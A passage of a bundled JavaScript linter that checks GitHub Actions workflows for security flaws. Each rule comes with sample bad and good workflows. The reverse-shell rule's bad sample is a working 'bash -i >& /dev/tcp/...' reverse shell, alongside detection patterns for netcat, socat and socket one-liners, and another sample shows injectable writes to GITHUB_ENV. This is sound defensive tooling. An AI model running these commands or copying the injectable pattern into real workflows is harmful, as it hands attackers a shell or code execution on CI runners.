}));
/** Permissions that are about the organization and no repository. */
const isOrganizationWide = (input) => /^permission-(?:organization-|members$|team-)/.test(input);

// EXTERNAL MODULE: ./lib/documents/caseless.js
var caseless = __webpack_require__(1621);
;// CONCATENATED MODULE: ./lib/documents/untrusted-contexts.js
/**
 * Values of contexts that a stranger writes freely: titles, texts, names of branches and of people, messages of commits. Numbers, hashes, login
 * names and URLs are not among them, as their form leaves no room for a command; nor is what only people with write access can set.
 * By GitHub's webhook payloads and its notes on untrusted input (https://securitylab.github.com/resources/github-actions-untrusted-input/).
 */
const untrusted = [
    'github.head_ref',
    'github.event.issue.title',
    'github.event.issue.body',
    'github.event.comment.body',
    'github.event.review.body',
    'github.event.review_comment.body',
    'github.event.discussion.title',
    'github.event.discussion.body',
    'github.event.pages.*.page_name',
    'github.event.pages.*.title',
    ...['pull_request', 'workflow_run.pull_requests.*', 'check_suite.pull_requests.*', 'check_run.pull_requests.*'].flatMap((pull) => [
        `github.event.${pull}.title`,
        `github.event.${pull}.body`,
        `github.event.${pull}.head.ref`,
        `github.event.${pull}.head.label`,
        `github.event.${pull}.head.repo.default_branch`,
        `github.event.${pull}.head.repo.description`,
        `github.event.${pull}.head.repo.homepage`,
    ]),
    'github.event.changes.title.from',
    'github.event.changes.body.from',
    'github.event.changes.head.ref.from',
    ...['commits.*', 'head_commit', 'workflow_run.head_commit', 'merge_group.head_commit', 'check_suite.head_commit'].flatMap((commit) => [
        `github.event.${commit}.message`,
        `github.event.${commit}.author.email`,
        `github.event.${commit}.author.name`,
        `github.event.${commit}.committer.email`,
        `github.event.${commit}.committer.name`,
    ]),
    'github.event.workflow_run.head_branch',
    'github.event.workflow_run.display_title',
    'github.event.workflow_run.head_repository.description',
    'github.event.check_suite.head_branch',
    'github.event.check_run.check_suite.head_branch',
    'github.event.forkee.description',
    'github.event.forkee.homepage',
].map((path) => path.split('.'));
/** The value that a stranger writes and that is read by this path, or null. */
function untrustedContext({ path, whole }) {
    if (path[0] !== 'github')
        return null;
    return untrusted.find((pattern) => untrusted_contexts_matches(pattern, path, whole))?.join('.') ?? null;
}
function untrusted_contexts_matches(pattern, path, whole) {
    if (path.length > pattern.length || (path.length < pattern.length && !whole))
        return false;
    return path.every((step, index) => step === pattern[index] || step === '*' || (pattern[index] === '*' && /^\d+$/.test(step)));
}

;// CONCATENATED MODULE: ./lib/documents/untrusted-outputs.js
/**
 * Outputs of well-known actions that hold text of a pull request: names of its files, of its branch, its title. By each action's own
 * documentation.
 */
const untrusted_outputs_outputs = new Map([
    ['tj-actions/changed-files', /_files$|^all_old_new_renamed_files$|_keys$/],
    ['tj-actions/verify-changed-files', /^changed_files$/],
    ['tj-actions/branch-names', /branch|ref/],
    ['jitterbit/get-changed-files', /./],
    ['trilom/file-changes-action', /^files/],
    ['dorny/paths-filter', /_files$/],
    ['ahmadnassri/action-changed-files', /^(?:files|json)/],
    ['xt0rted/pull-request-comment-branch', /^head_ref$/],
    ['alessbell/pull-request-comment-branch', /^head_ref$/],
    ['8bitjonny/gh-get-current-pr', /title|body|head_ref/],
    ['potiuk/get-workflow-origin', /branch/i],
    ['khan/pull-request-comment-trigger', /^comment_body$/],
    ['eficode/resolve-pr-refs', /^head_ref$/],
]);
/** Where the text of an action's output comes from, if a stranger writes it. */
const untrustedOutput = (action, output) => untrusted_outputs_outputs.get(action)?.test(output) ? `${action}, output ${output}` : null;

// EXTERNAL MODULE: ./lib/documents/workflow-matrix.js
var workflow_matrix = __webpack_require__(8427);
;// CONCATENATED MODULE: ./lib/documents/workflow-untrusted.js







const freeText = { context: untrustedContext, output: untrustedOutput };
/** Values that are looked at for one part of an expression; a workflow that sends further is not followed to its end. */
const maxValues = 1000;
/** Every part of the expression's text that a stranger writes, followed through `env`, the matrix, and outputs of steps and jobs. */
function untrustedParts(expression, scope, sources = freeText) {
    return [...(0,expression_paths/* yieldedPaths */.l)(expression)].flatMap((read) => {
        const source = new Trace(sources).sourceOf(read, expression, scope);
        return source === null ? [] : [{ span: read.span, path: read.path, source }];
    });
}
/** The source of the first untrusted expression in a scalar. */
const untrustedText = (node, scope, sources = freeText) => new Trace(sources).text(node, scope);
/** The source of a piece of a script as written: of an expression in it, or of a variable of the step's environment. */
function writtenSource(text, scope, sources = freeText) {
    const trace = new Trace(sources);
    return trace.fences((0,expression_find/* findExpressions */.zV)(text), scope) ?? firstOf(variablesIn(text), (name) => trace.variable(name, scope));
}
/** The scope of a step. */
const scopeOf = (step) => ({ step, job: step.job, workflow: step.job?.workflow ?? null, action: step.action });
/** Names of the variables that a script reads: `$X`, `${X}`, `$env:X`, `%X%`. */
const variablesIn = (text) => [...text.matchAll(/\$(?:env:|\{(?:env:)?)?([A-Za-z_]\w*)|%([A-Za-z_]\w*)%/gi)].map(([, posix, cmd]) => posix ?? cmd ?? '');
function firstOf(items, read) {
    for (const item of items) {
        const found = read(item);
        if (found !== null)
            return found;
    }
    return null;
}
/** One search for a source: a value that was looked at before had none. */
class Trace {
    #sources;
    #seen = new Set();
    constructor(sources) {
        this.#sources = sources;
    }
    #isNew(value) {
        if (this.#seen.has(value) || this.#seen.size >= maxValues)
            return false;
        this.#seen.add(value);
        return true;
    }
    sourceOf(read, expression, scope) {
        const own = this.#sources.context(read);
        if (own !== null)
            return own;
        const [context, name = '', kind, output = ''] = read.path;
        if (context === 'env')
            return this.variable(name, scope);
        if (context === 'matrix' && scope.job)
            return firstOf((0,workflow_matrix/* matrixNodes */.Px)(scope.job, expression), (node) => this.text(node, scope));
        if (kind !== 'outputs')
            return null;
        if (context === 'steps')
            return this.#stepOutput(name, output, scope);
        const job = context === 'needs' ? jobNamed(name, scope) : undefined;
        if (job?.at('uses'))
            return this.#sources.output(job.at('uses')?.string ?? '', output);
        return job ? this.text((0,caseless/* caselessValue */.Z)(job.at('outputs'), output), { ...scope, job, step: null }) : null;
    }
    /** The value that a variable has in a step is the step's, the job's or the workflow's, of which the nearest counts. */
    variable(name, scope) {
        const owners = [scope.step, scope.job, scope.workflow];
        const value = owners.map((owner) => (0,caseless/* caselessValue */.Z)(owner?.at('env'), name)).find((node) => node !== undefined);
        return this.text(value, scope);
    }
    text(node, scope) {
        return node?.kind === 'scalar' && node.string.includes('${{') && this.#isNew(node) ? this.fences((0,expression_find/* fencesOf */.IE)(node), scope) : null;
    }
    fences(fences, scope) {
        return firstOf(fences, ({ expression }) => expression && firstOf((0,expression_paths/* yieldedPaths */.l)(expression), (read) => this.sourceOf(read, expression, scope)));
    }
    /** An output that an action is known for, or that a script writes from an untrusted variable. */
    #stepOutput(id, output, scope) {
        const step = stepNamed(id, scope);
        if (!step || !this.#isNew(`${step.subject} ${output}`))
            return null;
        if (step.reference)
            return this.#sources.output(step.reference.name, output);
        const writes = (0,workflow_shell/* stepCommands */.Bs)(step).filter((command) => writesOutput(command, output));
        const names = writes.flatMap(({ words }) => words.flatMap((word) => variablesIn(word.value)));
        const written = firstOf(names, (name) => this.variable(name, { ...scope, step }));
        if (written !== null || this.#sources.script === undefined)
            return written;
        const isFixed = writes.length > 0 && writes.every(({ words }) => words.every(({ literal }) => literal));
        return isFixed ? null : this.#sources.script;
    }
}
const jobsByName = new WeakMap();
function jobNamed(name, { workflow }) {
    if (!workflow)
        return undefined;
    let jobs = jobsByName.get(workflow);
    if (jobs === undefined) {
        jobs = new Map(workflow.jobs.map((job) => [job.id.toLowerCase(), job]));
        jobsByName.set(workflow, jobs);
    }
    return jobs.get(name);
}
const stepsByName = new WeakMap();
function stepNamed(id, { job, action }) {
    const all = job?.steps ?? action?.steps ?? [];
    let steps = stepsByName.get(all);
    if (steps === undefined) {
        steps = new Map(all.map((step) => [step.at('id')?.string?.toLowerCase() ?? '', step]));
        stepsByName.set(all, steps);
    }
    return steps.get(id);
}
function writesOutput({ words, redirections }, output) {
    const texts = words.map((word) => word.value.toLowerCase());
    const file = redirections.some(({ target }) => /\bGITHUB_OUTPUT\b/.test(target.value));
    return texts.some((text) => (file && text.startsWith(`${output}=`)) || text.includes(`::set-output name=${output}::`));
}

;// CONCATENATED MODULE: ./lib/documents/environment-files.js



/**
 * Follows text of strangers through the variables of a script, from the first command to the last.
 * @param foreignFiles what the files are that others have put into the working directory, or null where there are none
 * @param unknown what text is called that the script does not fix, where it is to be told; else null
 */
function* environmentWrites(step, sources, foreignFiles, unknown = null) {
    const tainted = new Map();
    const sourceOf = (text) => writtenSource(text, scopeOf(step), sources) ??
        variablesIn(text)
            .map((name) => tainted.get(name))
            .find((source) => source !== undefined) ??
        (environment_files_readsFile.test(text) ? foreignFiles : null);
    const written = ({ span }) => step.document.text.slice(span);
    for (const command of (0,workflow_shell/* stepCommands */.Bs)(step)) {
        for (const assignment of command.assignments) {
            const source = sourceOf(written(assignment));
            if (source !== null)
                tainted.set(assignment.name, source);
        }
        const file = targetOf(command);
        if (file === null)
            continue;
        const data = [...command.pipedFrom, command].map(dataOf(step)).join('\n');
        const source = sourceOf(data) ?? (varies(data) ? unknown : null);
        if (source !== null)
            yield { span: command.span, file, source };
    }
}
/** Holds the output of a command, or a variable that the runner does not set itself. */
const varies = (text) => /\$\(|`/.test(text) || variablesIn(text).some((name) => !/^(?:GITHUB|RUNNER)_|^(?:HOME|PATH|PWD)$/.test(name));
/** A command, in a substitution or not, whose output is a file's text. */
const environment_files_readsFile = /(?:^|[\n;|&(`])\s*(?:cat|head|tail|jq|yq|sed|awk|grep|cut)\s|\$\(\s*<|<\s*[\w./]/;
const dataOf = (step) => ({ span, redirections }) => [step.document.text.slice(span), ...redirections.map(({ heredoc }) => heredoc?.text ?? '')].join('\n');
/** The file that a command appends to: by `>>`, or as `tee -a`. */
function targetOf(command) {
    const { redirections } = command;
    const invocation = (0,shell_commands/* invocationOf */.QC)(command);
    const targets = redirections.filter(({ operator }) => operator.startsWith('>')).map(({ target }) => target.value);
    if (invocation?.name === 'tee')
        targets.push(...invocation.args.map(({ value }) => value));
    const [, file] = /\b(GITHUB_ENV|GITHUB_PATH)\b/.exec(targets.join(' ')) ?? [];
    return file === 'GITHUB_ENV' || file === 'GITHUB_PATH' ? file : null;
}

;// CONCATENATED MODULE: ./lib/documents/workflow-events.js


/** Events that strangers bring about, and that run with the secrets and the token of the repository. */
const privilegedEvents = ['pull_request_target', 'workflow_run', 'issue_comment'];
/** Events that a pull request from a fork brings about. */
const forkEvents = [
    'pull_request',
    'pull_request_target',
    'pull_request_review',
    'pull_request_review_comment',
    'workflow_run',
    'issue_comment',
];
/** Those of the events for which a job, or a step of one, can run: the workflow is triggered by them, and no `if` rules them out. */
function eventsOf(owner, events) {
    const job = 'steps' in owner ? owner : owner.job;
    if (job === null)
        return [];
    const conditions = [job.at('if'), 'steps' in owner ? undefined : owner.at('if')];
    return events.filter((event) => job.workflow.triggers.has(event) && conditions.every((condition) => mayHold(condition, event)));
}
function mayHold(condition, event) {
    const known = new Map([['github.event_name', event]]);
    const expression = condition?.kind === 'scalar' ? (0,expression_find/* parseCondition */.zB)(condition.string) : null;
    return expression === null || (0,expression_fold/* truth */.Im)(expression, known) !== false;
}

;// CONCATENATED MODULE: ./lib/rules/workflow/github-env-injection.js






/** Others than these give a stranger neither secrets nor a token that writes. */
const events = [
    ...privilegedEvents,
    'issues',
    'discussion',
    'discussion_comment',
    'pull_request_review',
    'pull_request_review_comment',
    'fork',
    'gollum',
];
/* harmony default export */ const github_env_injection = ((0,rule/* defineRule */.Km)({
    id: 'workflow/github-env-injection',
    severity: 'high',
    threat: 'access',
    strictly: 'whatever a composite action writes there that its script does not fix, as low.',
    summary: 'Text of a stranger sets the environment of the job',
    why: 'A line break in it starts another variable: `LD_PRELOAD`, `NODE_OPTIONS` or a folder on the PATH make every later step run their code.',
    instead: 'Hand the value over as an output of the step, or check first that it has the form that it should have.',
    references: [
        actions('reference/workflows-and-actions/workflow-commands#setting-an-environment-variable', 'setting an environment variable'),
        {
            title: 'GitHub Security Lab: new vulnerability patterns',
            url: 'https://securitylab.github.com/resources/github-actions-new-patterns-and-mitigations/',
        },
        cwe(454),
    ],
    peers: ['zizmor:github-env', 'kics:github_env_injection'],
    bad: `
on: pull_request_target
permissions: {}
jobs:
  label:
    runs-on: ubuntu-24.04
    steps:
      - env:
          TITLE: \${{ github.event.pull_request.title }}
        run: echo "TITLE=$TITLE" >> "$GITHUB_ENV"
`,
    good: `
on: pull_request_target
permissions: {}
jobs:
  label:
    runs-on: ubuntu-24.04
    steps:
      - id: title
        env:
          TITLE: \${{ github.event.pull_request.title }}
        run: |
          [[ "$TITLE" =~ ^[A-Za-z0-9\\ ]+$ ]] && echo "title=$TITLE" >> "$GITHUB_OUTPUT"
`,
    on: 'step',
    *check(step, { strict }) {
        if (step.action === null && eventsOf(step, events).length === 0)
            return;
        // Nor does a composite action know what its commands find in the repository that calls it.
        const unknown = step.action && strict ? 'text that is not fixed' : null;
        for (const { span, file, source } of environmentWrites(step, step.action ? inputsToo : strangers, foreignFiles(step), unknown)) {
            const severity = source === unknown ? 'low' : step.action ? 'medium' : 'high';
            yield { at: { span }, severity, message: `${source} is written to ${file}` };
        }
    },
}));
const strangers = { context: untrustedContext, output: untrustedOutput };
/** A composite action does not know who writes its inputs. */
const inputsToo = {
    context: (read) => untrustedContext(read) ?? (read.path[0] === 'inputs' ? `the input "${read.path[1] ?? ''}"` : null),
    output: untrustedOutput,
};
/** What another workflow has uploaded may come from a pull request. */
function foreignFiles({ job, at }) {
    if (!job || eventsOf(job, ['workflow_run']).length === 0)
        return null;
    const before = job.steps.slice(0, job.steps.findIndex((step) => step.at === at));
    const downloads = before.some(({ reference, run }) => /^(?:actions\/download-artifact|dawidd6\/action-download-artifact)$/.test(reference?.name ?? '') ||
        /gh run download|actions\/artifacts/.test(run?.string ?? ''));
    return downloads ? 'a file of an artifact' : null;
}

;// CONCATENATED MODULE: ./lib/documents/image-scanners.js

/** Actions that look for known flaws in an image, by each action's documentation. */
const image_scanners_actions = new Set([
    'anchore/scan-action',
    'aquasecurity/trivy-action',
    'azure/container-scan',
    'crazy-max/ghaction-container-scan',
    'docker/scout-action',
    'jfrog/frogbot',
    'lacework/lw-scanner-action',
    'neuvector/scan-action',
    'paloaltonetworks/prisma-cloud-scan',
    'snyk/actions/docker',
    'sysdiglabs/scan-action',
    'wizcli/wizcli-action',
]);
const image_scanners_commands = /^(?:trivy (?:image|i)\b|grype \S|(?:snyk) container\b|docker(?:-| )scout \S|docker scan\b|clairctl? \S|(?:lw-scanner|twistcli|wizcli|sysdig-cli-scanner)\b|xray scan\b|jf docker scan\b|osv-scanner scan image\b)/;
/** Whether a step scans an image. */
function scansImages(step) {
    if (image_scanners_actions.has(step.reference?.name ?? ''))
        return true;
    return (0,workflow_shell/* stepInvocations */.Wz)(step).some(({ name, args }) => {
        const words = [name, ...args.map(({ value }) => value).filter((value) => !value.startsWith('-'))].join(' ');
        return image_scanners_commands.test(words) || (/^(?:docker|podman)$/.test(name) && / (?:\S*\/)?(?:trivy|grype)(?::\S+)? /.test(words));
    });
}

;// CONCATENATED MODULE: ./lib/documents/job-needs.js
const job_needs_known = new WeakMap();
/** More than workflows have; a longer chain is not followed to its end. */
const maxJobs = 100;
const job_needs_always = () => true;
/**
 * The jobs that end before this one starts, the nearest first.
 * @param follows whether the needs of a job are looked at, its own first
 */
function neededJobs(job, follows = job_needs_always) {
    let jobs = job_needs_known.get(job.workflow);
    if (jobs === undefined) {
        jobs = new Map(job.workflow.jobs.map((each) => [each.id, each]));
        job_needs_known.set(job.workflow, jobs);
    }
    const found = new Set([job]);
    for (const each of found) {
        if (found.size > maxJobs)
            break;
        if (!follows(each))
            continue;
        const needs = each.at('needs');
        const names = needs?.kind === 'sequence' ? needs.items.map((item) => item.value.string) : [needs?.string];
        for (const name of names) {
            const other = name === undefined ? undefined : jobs.get(name);
            if (other)
                found.add(other);
        }
    }
    found.delete(job);
    return [...found];
}

;// CONCATENATED MODULE: ./lib/rules/workflow/image-published-unscanned.js





/* harmony default export */ const image_published_unscanned = ((0,rule/* defineRule */.Km)({
    id: 'workflow/image-published-unscanned',
    severity: 'medium',
    strict: true,
    threat: 'cve',
    summary: 'An image is published before anything has scanned it',
    why: 'Known flaws of the base image and of what was installed go into the registry, and from there into the cluster, with nobody having seen them.',
    instead: 'Build the image, scan it with Trivy, Grype or the like so that the job fails, and push it after that.',
    references: [nsa('Build secure container images'), cwe(1395)],
    bad: `
on: push
permissions: {}
jobs:
  image:
    runs-on: ubuntu-24.04
    steps:
      - run: docker build -t registry.example.com/shop:1 .
      - run: docker push registry.example.com/shop:1
`,
    good: `
on: push
permissions: {}
jobs:
  image:
    runs-on: ubuntu-24.04
    steps:
      - run: docker build -t registry.example.com/shop:1 .
      - run: trivy image --exit-code 1 registry.example.com/shop:1
      - run: docker push registry.example.com/shop:1
`,
    on: 'job',
    *check(job) {
        if (neededJobs(job).some((other) => other.steps.some(scansImages)))
            return;
        for (const step of job.steps) {
            if (scansImages(step))
                return;
            const push = publications(step).find(({ to }) => to === 'image registry');
            if (push) {
                yield { at: push, subject: step.subject, identity: '', message: 'an image is pushed that no step before has scanned' };
                return;
            }
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/workflow/insecure-commands-enabled.js


/* harmony default export */ const insecure_commands_enabled = ((0,rule/* defineRule */.Km)({
    id: 'workflow/insecure-commands-enabled',
    severity: 'high',
    threat: 'access',
    summary: 'Commands that GitHub has switched off are switched on again',
    why: 'With them every line that a program prints can set variables and extend the PATH of the steps that follow: whoever gets text into the log runs code.',
    instead: 'Remove the variable, and write to the files `$GITHUB_ENV` and `$GITHUB_PATH`.',
    references: [
        {
            title: 'GitHub: deprecating set-env and add-path commands',
            url: 'https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/',
        },
        cve('CVE-2020-15228'),
        cwe(77),
    ],
    peers: ['zizmor:insecure-commands', 'checkov:CKV_GHA_1', 'kics:unsecured_commands', 'semgrep:allowed-unsecure-commands'],
    bad: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    env:
      ACTIONS_ALLOW_UNSECURE_COMMANDS: true
    steps:
      - run: make
`,
    good: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: make
`,
    on: 'workflowVariable',
    *check({ name, value }) {
        if (name === 'ACTIONS_ALLOW_UNSECURE_COMMANDS' && /^(?:true|1|yes|on)$/i.test(value.string))
            yield { at: value, field: name, message: `${name} is "${value.string}"` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/workflow/obfuscated-workflow.js



/* harmony default export */ const obfuscated_workflow = ((0,rule/* defineRule */.Km)({
    id: 'workflow/obfuscated-workflow',
    severity: 'low',
    strict: true,
    threat: 'access',
    summary: 'What runs is written in a roundabout way',
    why: 'Expressions that are always the same text, and inputs that are computed as a whole, hide from a reviewer and from tools what a step does.',
    instead: 'Write the text itself.',
    references: [attack('T1027'), cwe(506)],
    peers: ['zizmor:obfuscation'],
    bad: `
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: \${{ format('cu{0} example.com', 'rl') }}
`,
    good: `
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: curl example.com
`,
    on: 'workflowExpression',
    *check(found) {
        const { expression, path, span } = found;
        if (!expression)
            return;
        if (path.at(-1) === 'with' && found.step)
            yield { at: { span }, message: 'all inputs of the action are computed' };
        // A job or step that is switched off.
        if (path.at(-1) === 'if')
            return;
        const constant = firstConstant(expression);
        if (constant)
            yield reportOf(found, constant);
    },
}));
function reportOf({ placeOf, scalar }, { span }) {
    return { at: { span: placeOf(span) }, message: `"${scalar.string.slice(span.start, span.end)}" is always the same text` };
}
/** The first part that is computed from nothing but literals; a literal alone counts too, unless it only quotes braces. */
function firstConstant(expression) {
    if (expression.kind === 'literal')
        return typeof expression.value === 'string' && expression.value.includes('{{') ? null : expression;
    return computedConstant(expression);
}
function computedConstant(expression) {
    if (expression.kind === 'literal')
        return null;
    if (expression.kind !== 'access' && (0,expression_fold/* fold */.AU)(expression) !== undefined)
        return expression;
    const parts = expression.kind === 'call' ? expression.arguments : expression.kind === 'operation' ? expression.operands : expression.steps;
    for (const part of parts) {
        const found = part && computedConstant(part);
        if (found)
            return found;
    }
    return null;
}

;// CONCATENATED MODULE: ./lib/rules/workflow/permissions-missing.js


/* harmony default export */ const permissions_missing = ((0,rule/* defineRule */.Km)({
    id: 'workflow/permissions-missing',
    severity: 'medium',
    threat: 'access',
    strictly: 'workflows that are only called by others, and have at most what their callers give, as low.',
    summary: 'A workflow does not say what its token may do',
    why: 'The default of the repository then holds. In repositories and organizations from before 2023 that is the right to write nearly everything.',
    instead: 'Write `permissions: {contents: read}` at the top of the workflow, and add scopes to the jobs that need them.',
    references: [
        actions('reference/workflows-and-actions/workflow-syntax#permissions', 'permissions'),
        {
            title: 'GitHub: the token is read-only by default',
            url: 'https://github.blog/changelog/2023-02-02-github-actions-updating-the-default-github_token-permissions-to-read-only/',
        },
        cwe(276),
    ],
    peers: [
        'zizmor:excessive-permissions',
        'scorecard:Token-Permissions',
        'checkov:CKV2_GHA_1',
        'poutine:default_permissions_on_risky_events',
    ],
    bad: `
on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: make test
`,
    good: `
on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: make test
`,
    on: 'workflow',
    guard: (workflow) => workflow.root.entry('permissions'),
    *check(workflow, { strict }) {
        const isCalled = isOnlyCalled(workflow);
        if (isSaid(workflow) || (isCalled && !strict))
            return;
        const without = workflow.jobs.filter((job) => !isSaid(job));
        const [first] = without;
        if (!first)
            return;
        // One finding for the workflow, so that a job that is mended does not make the others new.
        const message = without.length === workflow.jobs.length
            ? 'neither the workflow nor its jobs say what the token may do'
            : `the workflow and its jobs ${without.map((job) => `"${job.id}"`).join(', ')} do not say what the token may do`;
        const fix = (0,rule/* unsafeFix */.ed)('Let the token read the repository only', readOnly(workflow));
        yield { at: first, field: 'permissions', identity: '', ...(isCalled && { severity: 'low' }), message, fix };
    },
}));
/** A key without a value grants nothing and takes nothing away. */
const isSaid = (owner) => owner.at('permissions')?.value !== null && owner.at('permissions') !== undefined;
/** A reusable workflow has at most the permissions of its caller. */
const isOnlyCalled = ({ triggers }) => triggers.size > 0 && [...triggers.keys()].every((event) => event === 'workflow_call');
function readOnly({ root, document, at }) {
    if (at('permissions') !== undefined)
        return undefined;
    const jobs = root.entry('jobs');
    if (!jobs || root.style !== 'block' || document.text.position(jobs.span.start).column !== 1)
        return undefined;
    const lineBreak = document.text.value.includes('\r\n') ? '\r\n' : '\n';
    const { start } = jobs.key.span;
    return { span: { start, end: start }, text: ['permissions:', '  contents: read', '', ''].join(lineBreak) };
}

;// CONCATENATED MODULE: ./lib/rules/workflow/reverse-shell.js




/* harmony default export */ const reverse_shell = ((0,rule/* defineRule */.Km)({
    id: 'workflow/reverse-shell',
    severity: 'high',
    threat: 'access',
    summary: 'A step gives a shell to another machine',
    why: 'Whoever is at the other end types commands on the runner, with the secrets and the token of the job. No build needs that.',
    instead: 'Remove the step, find out who added it, and revoke the secrets that the workflow had.',
    references: [attack('T1059.004'), attack('T1071'), cwe(506)],
    peers: ['checkov:CKV_GHA_4'],
    bad: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
`,
    good: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: until (echo > /dev/tcp/localhost/5432); do sleep 1; done
`,
    on: 'step',
    *check(step) {
        const all = (0,workflow_shell/* stepInvocations */.Wz)(step);
        const readsNetwork = new Set(all.filter(({ command }) => command.pipedFrom.some(isNetcat)).map(({ command }) => command));
        for (const invocation of all) {
            const at = shellOverNetwork(invocation, readsNetwork);
            if (at)
                yield { at, message: `"${invocation.name}" connects a shell with another machine` };
        }
    },
}));
const reverse_shell_nameOf = (command) => (0,shell_commands/* invocationOf */.QC)(command)?.name ?? '';
const netcats = new Set(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional']);
const isNetcat = (command) => netcats.has(reverse_shell_nameOf(command));
function shellOverNetwork({ name, args, command }, readsNetwork) {
    const socket = command.redirections.find(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.value));
    const opensShell = (0,shell_commands/* isShell */.H7)(name) || name === 'exec';
    if (socket && (0,shell_commands/* isShell */.H7)(name))
        return command;
    if (netcats.has(name)) {
        const executes = args.some(({ value }) => /^(?:-[a-z]*[ec]|--exec|--sh-exec)$/.test(value));
        const shell = command.pipedFrom.some((from) => (0,shell_commands/* isShell */.H7)(reverse_shell_nameOf(from)) && (0,shell_commands/* invocationOf */.QC)(from)?.args.some(({ value }) => value === '-i'));
        return executes || shell ? command : null;
    }
    if (name === 'socat')
        return args.some(({ value }) => /^(?:exec|system):.*sh\b/i.test(value)) ? command : null;
    if (reverse_shell_isInterpreter(name))
        return args.find(({ value }) => socketProgram(value)) ?? null;
    return opensShell && readsNetwork.has(command) ? command : null;
}
const reverse_shell_isInterpreter = (name) => ['perl', 'ruby', 'php', 'node'].includes(name) || (name.startsWith('python') && /^python[\d.]*$/.test(name));
/** One line that opens a connection, and starts a shell on it. */
const socketProgram = (text) => /\b(?:socket|TCPSocket|fsockopen|net\.connect|net\.Socket)\b/i.test(text) &&
    /\b(?:ba|z|da)?sh\b|pty\.spawn/.test(text) &&
    /dup2|exec|spawn|popen/i.test(text);

;// CONCATENATED MODULE: ./lib/rules/workflow/runner-debug-enabled.js


/* harmony default export */ const runner_debug_enabled = ((0,rule/* defineRule */.Km)({
    id: 'workflow/runner-debug-enabled',
    severity: 'low',
    strict: true,
    threat: 'access',
    summary: 'Debug logging is always on',
    why: 'Debug logs hold the inputs and the environment of every step: values that are made from a secret, and so are not masked, can be read there.',
    instead: 'Remove the variable. Whoever needs the logs runs the workflow again with debug logging.',
    references: [actions('how-tos/monitor-workflows/enable-debug-logging', 'enabling debug logging'), cwe(532)],
    peers: ['poutine:debug_enabled'],
    bad: `
on: push
permissions: {}
env:
  ACTIONS_STEP_DEBUG: true
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: make
`,
    good: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: make
`,
    on: 'workflowVariable',
    *check({ name, value }) {
        if (/^(?:ACTIONS_(?:RUNNER|STEP)_DEBUG|RUNNER_DEBUG)$/.test(name) && /^(?:true|1)$/i.test(value.string))
            yield { at: value, field: name, message: `${name} is "${value.string}"` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/workflow/secrets-inherit.js


/* harmony default export */ const secrets_inherit = ((0,rule/* defineRule */.Km)({
    id: 'workflow/secrets-inherit',
    severity: 'medium',
    threat: 'secret',
    summary: 'A called workflow gets every secret',
    why: 'All secrets of the repository and its organization are handed over, those that the workflow has no use for and those that are added later.',
    instead: 'Name the secrets that the called workflow needs.',
    references: [
        actions('how-tos/reuse-automations/reuse-workflows#passing-inputs-and-secrets-to-a-reusable-workflow', 'passing secrets'),
        cwe(272),
    ],
    peers: ['zizmor:secrets-inherit', 'kics:secrets_inherit_in_reusable_workflow'],
    bad: `
on: push
permissions: {}
jobs:
  deploy:
    uses: example/shared/.github/workflows/deploy.yml@d6babd6899969df1a11d14c368283ea4436bca78
    secrets: inherit
`,
    good: `
on: push
permissions: {}
jobs:
  deploy:
    uses: example/shared/.github/workflows/deploy.yml@d6babd6899969df1a11d14c368283ea4436bca78
    secrets:
      token: \${{ secrets.DEPLOY_TOKEN }}
`,
    on: 'job',
    *check(job, { owner }) {
        const secrets = job.at('secrets');
        const uses = job.at('uses')?.string;
        if (uses === undefined || secrets?.string !== 'inherit')
            return;
        // Who can change a workflow of the same repository can read its secrets anyway.
        const own = /^(?:\.|\$)\//.test(uses) || (owner !== null && uses.toLowerCase().startsWith(`${owner}/`));
        yield { at: secrets, severity: own ? 'low' : 'medium', message: `"${uses}" gets every secret ("inherit")` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/workflow/secrets-outside-environment.js



/* harmony default export */ const secrets_outside_environment = ((0,rule/* defineRule */.Km)({
    id: 'workflow/secrets-outside-environment',
    severity: 'low',
    strict: true,
    threat: 'secret',
    summary: 'A job reads a secret without an environment',
    why: 'A secret of the repository is open to every workflow on every branch. A secret of an environment is given only to its jobs, on its branches, after its reviewers agree.',
    instead: 'Put the secret into an environment, and name it in the job: `environment: production`.',
    references: [actions('reference/workflows-and-actions/deployments-and-environments', 'deployments and environments'), cwe(522)],
    peers: ['zizmor:secrets-outside-env'],
    bad: `
on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    steps:
      - run: ./deploy
        env:
          TOKEN: \${{ secrets.DEPLOY_TOKEN }}
`,
    good: `
on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    environment: production
    steps:
      - run: ./deploy
        env:
          TOKEN: \${{ secrets.DEPLOY_TOKEN }}
`,
    on: 'workflowExpression',
    *check({ expression, scalar, job, workflow, placeOf }) {
        if (!expression || !job || !workflow || job.at('environment') !== undefined || secrets_outside_environment_isOnlyCalled(workflow))
            return;
        for (const { path, span } of (0,expression_paths/* readPaths */.V)(expression)) {
            const [context, name = ''] = path;
            if (context === 'secrets' && name !== '' && name !== '*' && name !== 'github_token')
                yield {
                    at: { span: placeOf(span) },
                    subject: job.subject,
                    message: `job "${job.id}" reads "${scalar.string.slice(span.start, span.end)}" without an environment`,
                };
        }
    },
}));
/** Its caller says where the secrets come from. */
